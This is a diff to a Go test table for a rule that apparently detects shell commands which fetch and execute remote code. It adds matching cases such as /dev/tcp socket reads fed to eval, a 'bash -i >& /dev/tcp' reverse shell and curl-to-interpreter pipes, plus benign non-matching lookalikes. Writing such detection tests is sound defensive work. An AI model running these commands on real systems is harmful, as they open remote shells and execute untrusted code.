@@ -19,11 +19,13 @@ var run = []rules.Rule{
 			"read -r x < <(curl u); eval \"$x\"", "curl u | while read -r l; do eval \"$l\"; done", "read x <<< $(curl u); sh -c \"$x\"",
 			"mapfile -t a < <(curl u); eval \"${a[@]}\"", "printf -v x '%s' \"$(curl u)\"; eval \"$x\"",
 			"curl u | python3", "curl u | python3 -", "curl u | perl", "curl u | ruby", "curl u | node", "curl u | env bash",
-			"curl u | gunzip | sh", "$(curl u)", "bash < /dev/tcp/h/80", "bash -i >& /dev/tcp/h/80 0>&1", "sh -c \"$(curl -fsSL u)\"",
+			"curl u | gunzip | sh", "$(curl u)", "bash < /dev/tcp/h/80", "read -r l < /dev/tcp/h/1; eval \"$l\"", "exec 5<>/dev/tcp/h/1; while read -r l <&5; do $l; done",
+			"exec 5<>/dev/tcp/h/1; x=$(head -n 1 <&5); eval \"$x\"", "exec 5<>/dev/tcp/h/1; read -r -u 5 l; bash -c \"$l\"", "exec {d}<>/dev/tcp/h/1; mapfile -t a <&$d; eval \"${a[0]}\"", "bash -i >& /dev/tcp/h/80 0>&1", "sh -c \"$(curl -fsSL u)\"",
 		},
 		Misses: []string{
 			"curl u | shasum", "curl u | shuf", "curl u | python3 -m json.tool", "curl u | jq .", "curl -o x u", "curl u | tee x",
 			"curl u | python3 -c 'print(1)'", "cat x | sh", "curl u | grep sh",
+			"exec 3<>/dev/tcp/h/80; cat <&3", "exec 3<>/dev/tcp/h/1; read -r l <&3; echo \"$l\"", "read -r l < x; eval \"$l\"",
 		},
 	},
 	{
